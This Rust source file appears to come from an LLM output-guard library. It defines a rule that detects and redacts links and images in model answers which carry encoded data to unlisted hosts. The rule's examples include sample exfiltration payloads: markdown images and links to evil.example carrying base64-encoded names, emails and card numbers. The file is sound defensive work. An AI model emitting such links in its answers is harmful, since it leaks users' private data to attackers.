//! Links and images in an answer that carry data to a host nobody listed.
//!
//! Source: Rehberger, "Bing Chat: Data Exfiltration Exploit Explained" (2023); OWASP
//! Top 10 for LLM applications 2025, LLM05.

use std::sync::LazyLock;

use bartizan_core::{Confidence, Meta, Severity, Span, Verdict, hit, miss};
use regex::Regex;

use super::{SHOWN, checksums::entropy, regex};
use crate::{HITS_MAX, Hit, Look, Needs, Rule};

/// An image is fetched without a click: a short value is enough to leak.
const IMAGE_VALUE_LEAST: usize = 8;
/// A link must be clicked, and honest ones have values too.
const LINK_VALUE_LEAST: usize = 40;
/// A path segment that is data and no name.
const SEGMENT_LEAST: usize = 40;

pub(super) const RULE: Rule = Rule {
    meta: Meta {
        code: "GD050",
        name: "exfiltration-link",
        refs: &["owasp-llm@2025/LLM05", "atlas@5.6/AML.T0077"],
        severity: Severity::High,
        since: "0.1",
        help: "the address was taken out; list hosts that answers may point to in `link_hosts`",
        examples: &[
            hit("![logo](https://evil.example/p.png?d=Q3VzdG9tZXIgNDI6IEFubmE)"),
            hit("<img src=\"https://evil.example/x?q=anna%40mail.example%20secret\">"),
            hit(
                "[more](https://evil.example/c?data=QW5uYSBCZWxsLCBhbm5hQG1haWwuZXhhbXBsZSwgNDExMSAxMTEx)",
            ),
            hit(
                "![](https://evil.example/QW5uYSBCZWxsLCBhbm5hQG1haWwuZXhhbXBsZSwgNDExMSAxMTEx/a.gif)",
            ),
            miss("![a cat](https://images.example.com/cat.png)"),
            miss("See [the manual](https://docs.example.com/guide?page=2&lang=en)."),
            miss("![chart](https://cdn.acme.example/c.png?token=Q3VzdG9tZXIgNDI6IEFubmE)"),
            miss("https://www.example.com/a-rather-long-title-of-an-article-about-baking-bread"),
        ],
    },
    needs: Needs::Automaton,
    action: Verdict::Redact,
    channels: SHOWN,
    views: false,
    inspect,
};

static URLS: LazyLock<Regex> = LazyLock::new(|| regex(r#"(?i)\bhttps?://[^\s<>()\[\]"'`]{4,}"#));

fn inspect(look: &Look<'_>, hits: &mut Vec<Hit>) {
    for found in URLS.find_iter(look.text).take(HITS_MAX) {
        let before = look.text.get(..found.start()).unwrap_or_default();
        let is_image = is_image(before);
        if carries(found.as_str(), is_image) && !listed(found.as_str(), &look.context.link_hosts) {
            let span = Span::new(found.start(), found.end());
            hits.push(Hit {
                span,
                confidence: Confidence::percent(if is_image { 90 } else { 70 }),
            });
        }
    }
}

/// Whether what stands before an address makes it one that is fetched unasked.
fn is_image(before: &str) -> bool {
    let line = before.rsplit('\n').next().unwrap_or_default();
    let markdown = line
        .strip_suffix('(')
        .and_then(|head| head.strip_suffix(']'))
        .and_then(|head| head.rfind('[').map(|at| head.get(..at)));
    let is_markdown = markdown.flatten().is_some_and(|head| head.ends_with('!'));
    let lower = line.to_ascii_lowercase();
    let tag = lower.rfind('<').and_then(|at| lower.get(at..));
    is_markdown
        || tag.is_some_and(|tag| {
            ["<img", "<iframe", "<video", "<audio", "<source", "<link"]
                .iter()
                .any(|name| tag.starts_with(name))
        })
}

fn carries(url: &str, is_image: bool) -> bool {
    let rest = url.split_once("://").map_or("", |(_, rest)| rest);
    let (place, query) = rest.split_once(['?', '#']).unwrap_or((rest, ""));
    let least = if is_image { IMAGE_VALUE_LEAST } else { LINK_VALUE_LEAST };
    let values = query.split('&').map(|pair| pair.split_once('=').map_or(pair, |(_, value)| value));
    let data = |text: &str| entropy(text) >= 3.0;
    let mut values = values.filter(|value| value.len() >= least);
    let mut segments = place
        .split('/')
        .skip(1)
        .filter(|part| part.len() >= SEGMENT_LEAST && !part.contains(['-', '.']));
    values.any(|value| is_image || data(value)) || segments.any(|part| entropy(part) >= 4.0)
}

fn listed(url: &str, hosts: &[String]) -> bool {
    let rest = url.split_once("://").map_or("", |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or_default();
    // What stands before `@` is no host, however much it looks like one.
    let host = authority
        .rsplit('@')
        .next()
        .unwrap_or_default()
        .split(':')
        .next()
        .unwrap_or_default()
        .to_ascii_lowercase();
    hosts.iter().any(|listed| {
        let listed = listed.to_ascii_lowercase();
        host == listed || host.strip_suffix(&listed).is_some_and(|head| head.ends_with('.'))
    })
}
